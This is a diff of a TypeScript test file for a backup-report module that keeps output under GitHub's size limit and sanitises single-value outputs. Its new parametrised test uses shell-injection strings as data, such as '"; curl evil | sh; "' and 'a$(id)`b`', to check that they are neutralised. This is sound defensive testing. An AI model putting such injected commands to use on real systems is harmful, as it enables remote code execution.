@@ -4,20 +4,27 @@ import { aBackup, HOUR } from '../fixtures/backups.js'
 import { recordingReport } from '../fixtures/contexts.js'
 
 describe('Report', () => {
-  it('keeps the backups output under GitHub’s 1 MB limit, counted as UTF-16, newest first', () => {
+  it('keeps the backups output under GitHub’s 1 MB limit by leaving whole items out, never reshaping them', () => {
     const { report, last: outputs } = recordingReport()
     const backups = Array.from({ length: 6000 }, (_, i) =>
       aBackup({ id: String(i), ageMs: i * HOUR, name: `nightly-${i}` })
     )
-    for (const backup of backups) backup.raw = { id: backup.id, padding: 'x'.repeat(300) }
+    for (const backup of backups) {
+      backup.raw = {
+        id: Number(backup.id),
+        metadata: { name: backup.name },
+        padding: 'x'.repeat(300)
+      }
+    }
 
-    const { complete } = report.backups(backups, undefined)
-    const listed = JSON.parse(outputs.get('backups') ?? '') as Array<{ id: string }>
-    expect(complete).toBe(false)
+    const { kept } = report.backups(backups, undefined)
+    const listed = JSON.parse(outputs.get('backups') ?? '') as unknown[]
+    expect(kept).toBeLessThan(backups.length)
+    expect(listed).toEqual(backups.slice(0, kept).map(backup => backup.raw))
     const total = [...outputs].reduce((sum, [name, value]) => sum + outputBytes(name, value), 0)
     expect(total).toBeLessThanOrEqual(OUTPUTS_BUDGET_BYTES)
     expect(2 * (outputs.get('backups') ?? '').length).toBeLessThanOrEqual(OUTPUTS_BUDGET_BYTES)
-    expect(listed[0]).toMatchObject({ id: '0', name: 'nightly-0' })
+    expect(listed[0]).toMatchObject({ id: 0, metadata: { name: 'nightly-0' } })
     expect(listed.length).toBeGreaterThan(1000)
     expect(outputs.get('count')).toBe('6000')
   })
@@ -29,7 +36,7 @@ describe('Report', () => {
 
   it('leaves an output empty, with a warning, when it would take the outputs over budget', () => {
     const { report, last, warnings } = recordingReport()
-    report.output('backup', 'x'.repeat(OUTPUTS_BUDGET_BYTES))
+    report.json('backup', { padding: 'x'.repeat(OUTPUTS_BUDGET_BYTES) })
     expect(last.get('backup')).toBe('')
     expect(warnings[0]).toMatch(/^Output "backup" is left empty/)
   })
@@ -69,5 +76,19 @@ describe('Report', () => {
       'starting'
     ])
     expect(report.last).toBe(started)
+  })
+
+  it.each([
+    ['succeeded', 'succeeded'],
+    ['IN PROGRESS', 'IN PROGRESS'],
+    ['2026-11-30T12:00:00+01:00', '2026-11-30T12:00:00+01:00'],
+    ['"; curl evil | sh; "', '__ curl evil _ sh_ _'],
+    ['a$(id)`b`', 'a__id__b_'],
+    ['état\n', '_tat_']
+  ])('writes %j to an output that holds one value as %j', (value, written) => {
+    const { report, last, warnings } = recordingReport()
+    report.output('status', value)
+    expect(last.get('status')).toBe(written)
+    expect(warnings).toHaveLength(value === written ? 0 : 1)
   })
 })
